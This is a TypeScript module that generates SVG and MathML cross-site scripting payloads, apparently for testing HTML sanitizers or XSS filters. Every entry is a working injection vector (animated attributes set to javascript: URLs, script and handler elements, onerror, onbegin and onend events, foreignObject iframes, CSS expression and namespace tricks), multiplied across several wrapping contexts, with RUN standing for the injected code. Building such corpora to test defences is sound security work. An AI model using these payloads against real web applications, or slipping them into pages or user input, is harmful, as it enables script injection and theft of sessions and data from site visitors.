import type { Payload } from './payload.ts';

const ANIMATIONS = ['animate', 'set', 'animateTransform', 'animateMotion'];
const TARGETS = ['href', 'xlink:href', ' href', 'href ', 'HREF', 'style', 'onclick', 'from'];
const VALUES = [
  'values="javascript:RUN"',
  'to="javascript:RUN"',
  'from="javascript:RUN" to="x"',
  'by="javascript:RUN"',
];

const OTHERS = [
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:,RUN"></script></svg>',
  '<svg><script xlink:href="data:,RUN"></script></svg>',
  '<svg><handler type="text/javascript" ev:event="load">RUN</handler></svg>',
  '<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>RUN</x:script></svg>',
  '<svg xmlns="&quot; onload=RUN &quot;"></svg>',
  '<svg><discard onbegin=RUN></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  '<svg><animate onend=RUN attributeName=x dur=1ms></svg>',
  '<svg><animate onrepeat=RUN attributeName=x dur=1ms repeatCount=2></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:RUN'><text y=20>x</text></a></svg>#x\"></use></svg>",
  '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD14Lz4=#x"></use></svg>',
  '<svg><foreignObject><iframe src="javascript:RUN"></iframe></foreignObject></svg>',
  '<svg><foreignObject><body onload=RUN></foreignObject></svg>',
  '<svg><image href=x:x onerror=RUN></image></svg>',
  '<svg><feImage href=x:x onerror=RUN></feImage></svg>',
  '<svg><style>*{x:expression(RUN)}</style></svg>',
  '<svg><style>@import "javascript:RUN";</style></svg>',
  '<svg><desc><![CDATA[</desc><script>RUN</script>]]></svg>',
  '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:RUN"><rect width=99 height=99 /></a></svg>',
  '<svg onfocusin=RUN tabindex=0 autofocus></svg>',
  '<svg><set attributeName=onmouseover to=RUN /><rect width=99 height=99 /></svg>',
  '<math><mi xlink:href="javascript:RUN">x</mi></math>',
  '<math><semantics><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></semantics></math>',
  '<math><mtext><option><img src=x:x onerror=RUN></option></mtext></math>',
  '<math display=block onclick=RUN><mi>x</mi></math>',
  '<math><maction onclick=RUN>x</maction></math>',
];

/** Drawings and formulas that carry or become code. */
export const vectorGraphics = (): Payload[] => [
  ...ANIMATIONS.flatMap((animation) =>
    TARGETS.flatMap((target) =>
      VALUES.map((value) => ({
        family: 'animated attribute',
        html: `<svg><a><${animation} attributeName="${target}" ${value} begin=0s dur=1s /><text y=20>press me</text></a></svg>`,
      })),
    ),
  ),
  ...OTHERS.flatMap((html) =>
    [html, html.replace('<svg', '<svg:svg'), `<p>${html}`, `<table><td>${html}`].map((written) => ({
      family: 'drawing that runs',
      html: written,
    })),
  ),
];
